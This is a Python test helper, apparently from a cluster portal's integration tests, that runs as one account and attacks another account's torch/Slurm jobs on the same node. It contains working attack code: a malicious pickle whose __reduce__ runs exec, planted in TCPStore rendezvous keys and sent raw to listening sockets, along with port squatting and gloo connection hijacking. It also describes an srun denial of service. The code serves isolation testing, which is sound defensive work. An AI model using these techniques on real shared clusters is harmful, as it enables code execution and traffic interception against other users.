"""Another account on a run's nodes, attacking what the run's processes listen on (tests/integration/test_run_rendezvous.py).

`Neighbour("bob", target="alice", node=..., ...)` starts NEIGHBOUR as bob on the node with the session
environment's Python (which has torch, as every user's does) and, once told to
stop, returns what it saw and did.  While it runs it, again and again:

- binds ports and holds them (up to 200, IPv4 and IPv6): the race a bind,
  close and bind again (torchrun's endpoint port) loses to;
- reads /proc/net/tcp and tcp6 for the target's listening sockets (the socket's
  owner is a column there, for every account);
- connects to each as torch's TCPStore client and writes a pickle under the key
  torchrun's c10d rendezvous reads with pickle.loads (`torch.rendezvous.<job
  id>`, every job id of the target's that squeue shows), and reads it back,
  every 5 s while it answers as a store; a socket that does not is asked once,
  for 2 s: srun's own sockets are among the target's, and srun stalls for good
  while a client holds one of them half-sent (torch's client does, forever: a
  denial of service Slurm leaves open, README; raw pickles srun refuses at once);
- connects to each and sends the pickle raw;
- with `seq=True`: connects to each listener bound to an address of its own
  (gloo's; srun's listen on every address) as soon as it appears and writes
  gloo's connection header (a sequence number, 0..7) on a connection it keeps
  open, reads and echoes, the way one rank introduces itself to another: gloo
  hands such a connection to the first rank's pair that waits for that number.

The pickle, once unpickled, writes `marker` with the uid of the process that
unpickled it.
"""

from __future__ import annotations

import json
import subprocess

from .hosts import on_node

PYTHON = "/opt/dsportal/venv/bin/python"

NEIGHBOUR = r"""
import base64, json, os, pickle, select, socket, struct, subprocess, sys, threading, time
from datetime import timedelta

cfg = json.loads(sys.argv[1])
target_uid, marker, seq_mode = cfg["uid"], cfg["marker"], cfg["seq"]
patterns = [bytes.fromhex(p) for p in cfg["patterns"]]
end = time.monotonic() + cfg["seconds"]
lock = threading.Lock()
seen = {"listeners": [], "stores": [], "read_back": [], "raw_sent": 0, "hijacked": [], "patterns_seen": [],
        "received_bytes": 0, "ports_held": 0, "squatter_connections": 0, "keys": [], "errors": []}


class Payload:
    def __reduce__(self):
        return (exec, (f"import os; open({marker!r}, 'w').write(str(os.getuid()))",))


PICKLE = pickle.dumps(Payload())
PLANTED = base64.b64encode(PICKLE)  # the c10d rendezvous keeps its state base64-encoded


def stopping():
    return time.monotonic() > end or stdin_closed.is_set()


stdin_closed = threading.Event()
threading.Thread(target=lambda: (sys.stdin.read(), stdin_closed.set()), daemon=True).start()


def reachable(address, family):
    # the table's address (the kernel's byte order, in 32-bit words), a wildcard's as the loopback's
    if int(address, 16) == 0:
        return "127.0.0.1" if family == socket.AF_INET else "::1"
    raw = b"".join(bytes.fromhex(address[i:i + 8])[::-1] for i in range(0, len(address), 8))
    return socket.inet_ntop(family, raw)


def listeners():
    found = set()
    for path, family in (("/proc/net/tcp", socket.AF_INET), ("/proc/net/tcp6", socket.AF_INET6)):
        with open(path) as f:
            for line in f.readlines()[1:]:
                p = line.split()
                address, port = p[1].rsplit(":", 1)
                # gloo binds the node's own address; srun binds every address, and is left out of the
                # sequence-number attack, which holds its connections open (srun would stall for good)
                if p[3] == "0A" and int(p[7]) == target_uid and not (seq_mode and int(address, 16) == 0):
                    found.add((reachable(address, family), int(port, 16)))
    return found


def rendezvous_keys():
    out = subprocess.run(["squeue", "-h", "-u", str(cfg["target"]), "-o", "%i"], capture_output=True, text=True,
                         timeout=30).stdout.split()
    return ["torch.rendezvous." + job for job in out]


STORE_CLIENT = '''
import json, signal, sys
from datetime import timedelta
from torch.distributed import TCPStore
host, port, keys, planted = sys.argv[1], int(sys.argv[2]), json.loads(sys.argv[3]), sys.argv[4].encode()
signal.alarm(2)  # torch's client can wait forever on a socket that is no store: the default action ends it
store = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=1), wait_for_workers=False)
for key in keys:
    store.set(key, planted)
print(json.dumps([key for key in keys if store.check([key]) and store.get(key) == planted]), flush=True)
'''


def store_attack(host, port):
    while not stopping():
        keys = rendezvous_keys()
        client = subprocess.run([sys.executable, "-c", STORE_CLIENT, host, str(port), json.dumps(keys), PLANTED.decode()],
                                capture_output=True, text=True, timeout=60)
        if client.returncode != 0:  # not a store (asked once), or it went away
            with lock:
                seen["errors"].append(f"{port}: {client.returncode} {client.stderr.strip()[-200:]}")
            return
        with lock:
            seen["stores"].append(port)
            seen["keys"] = keys
            seen["read_back"] += json.loads(client.stdout)
        time.sleep(5)


def raw_attack(host, port):
    while not stopping():
        try:
            with socket.create_connection((host, port), timeout=2) as s:
                s.sendall(PICKLE)
            with lock:
                seen["raw_sent"] += 1
        except OSError:
            pass
        time.sleep(1)


def seq_attack(host, port):
    held = []
    for seq in range(8):
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(struct.pack("<q", seq))
            s.settimeout(0.05)
            held.append((seq, s, bytearray()))
        except OSError:
            pass
    while not stopping():
        for seq, s, got in held:
            try:
                data = s.recv(65536)
            except (socket.timeout, OSError):
                continue
            if data:
                got += data
                try:
                    s.sendall(data)  # its own words back: what a stranger without the secret has to offer
                except OSError:
                    pass
                with lock:
                    seen["received_bytes"] += len(data)
                    if (port, seq) not in seen["hijacked"]:
                        seen["hijacked"].append((port, seq))
                    for p in patterns:
                        if p in got and p.hex() not in seen["patterns_seen"]:
                            seen["patterns_seen"].append(p.hex())


def squat():
    held = []
    while not stopping():
        if len(held) < 200:
            for family, host in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
                s = socket.socket(family)
                if family == socket.AF_INET6:
                    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
                s.bind((host, 0))
                s.listen(8)
                s.settimeout(0)
                held.append(s)
        ready, _, _ = select.select(held, [], [], 0.05)
        for s in ready:
            try:
                conn, _ = s.accept()
                conn.close()
                with lock:
                    seen["squatter_connections"] += 1
            except OSError:
                pass
        with lock:
            seen["ports_held"] = len(held)


threading.Thread(target=squat, daemon=True).start()
attacked = set()
print("ready", flush=True)
while not stopping():
    for host, port in listeners() - attacked:
        attacked.add((host, port))
        with lock:
            seen["listeners"].append([host, port])
        workers = [seq_attack] if seq_mode else [globals()[f"{name}_attack"] for name in cfg["attacks"]]
        for work in workers:
            threading.Thread(target=work, args=(host, port), daemon=True).start()
    time.sleep(0.002)
with lock:
    seen["errors"] = seen["errors"][-20:]
    print(json.dumps(seen), flush=True)
os._exit(0)
"""


class Neighbour:
    """NEIGHBOUR running as `user` against `target`'s listeners; `result()` stops it and returns what it saw."""

    def __init__(
        self,
        user: str,
        target_uid: int,
        target: str,
        marker: str,
        seconds: float,
        node: str,
        seq: bool = False,
        patterns: tuple[bytes, ...] = (),
        attacks: tuple[str, ...] = ("store", "raw"),
    ):
        config = {
            "uid": target_uid,
            "target": target,
            "marker": marker,
            "seconds": seconds,
            "seq": seq,
            "attacks": list(attacks),
            "patterns": [p.hex() for p in patterns],
        }
        self.process = subprocess.Popen(
            on_node(node, [PYTHON, "-c", NEIGHBOUR, json.dumps(config)], user=user),  # a terminal of user's on node
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            cwd="/",
        )
        first = self.process.stdout.readline()
        assert first.strip() == "ready", (first, self.process.stderr.read())

    def result(self, timeout: float = 60) -> dict:
        out, err = self.process.communicate("", timeout=timeout)
        lines = out.strip().splitlines()
        assert lines, err
        return json.loads(lines[-1])


class GlooStranger:
    """A process on the node that introduces itself to gloo's sockets of the processes whose command line holds
    `marker` (found through /proc, as root sees them), with every sequence number 0..7, and echoes back whatever
    it is sent: a peer's own message returned to it.  In-process (a thread), for tests/component.

    `stop()` -> {"listeners": ports found, "hijacked": [(port, seq)] that were sent something,
    "patterns_seen": which of `patterns` (hex) arrived}.
    """

    def __init__(self, marker: bytes, patterns: tuple[bytes, ...] = ()):
        import threading

        self.marker, self.patterns = marker, patterns
        self._inodes, self._ports, self._read_at = None, set(), 0.0
        self.seen = {"listeners": [], "hijacked": [], "patterns_seen": []}
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _listeners(self) -> set[int]:
        import os
        import time

        inodes = set()
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if self.marker not in f.read():
                        continue
                for fd in os.listdir(f"/proc/{pid}/fd"):
                    link = os.readlink(f"/proc/{pid}/fd/{fd}")
                    if link.startswith("socket:["):
                        inodes.add(link[8:-1])
            except OSError:
                continue
        # no socket opened or closed: the ports of the last look (reading /proc/net/tcp costs about 10 ms of the
        # kernel's time), read anew every 0.2 s all the same (a socket made before it listens keeps its inode)
        if inodes == self._inodes and time.monotonic() - self._read_at < 0.2:
            return self._ports
        self._read_at = time.monotonic()
        ports = set()
        for path in ("/proc/net/tcp", "/proc/net/tcp6"):
            with open(path) as f:
                for line in f.readlines()[1:]:
                    p = line.split()
                    if p[3] == "0A" and p[9] in inodes:
                        ports.add(int(p[1].rsplit(":", 1)[1], 16))
        self._inodes, self._ports = inodes, ports
        return ports

    def _run(self) -> None:
        import select
        import socket
        import struct

        held: dict[socket.socket, tuple[int, int, bytearray]] = {}
        while not self.stopping.is_set():
            for port in self._listeners() - set(self.seen["listeners"]):
                self.seen["listeners"].append(port)
                for seq in range(8):
                    try:
                        s = socket.create_connection(("127.0.0.1", port), timeout=2)
                        s.sendall(struct.pack("<q", seq))
                        held[s] = (port, seq, bytearray())
                    except OSError:
                        pass
            # a look every 20 ms, not a spin: a later rank connects a second or more after an earlier one listens
            # (the test's stagger), and the spin took a core from every other test of the run
            ready = select.select(list(held), [], [], 0.02)[0] if held else []
            if not held:
                self.stopping.wait(0.02)
            for s in ready:
                port, seq, got = held[s]
                try:
                    data = s.recv(65536)
                except OSError:
                    data = b""
                if not data:
                    del held[s]
                    continue
                got += data
                if (port, seq) not in self.seen["hijacked"]:
                    self.seen["hijacked"].append((port, seq))
                for p in self.patterns:
                    if p in got and p.hex() not in self.seen["patterns_seen"]:
                        self.seen["patterns_seen"].append(p.hex())
                try:
                    s.sendall(data)  # its own words back: what a stranger without the secret has to offer
                except OSError:
                    pass
        for s in held:
            s.close()

    def stop(self) -> dict:
        self.stopping.set()
        self.thread.join(timeout=10)
        return self.seen
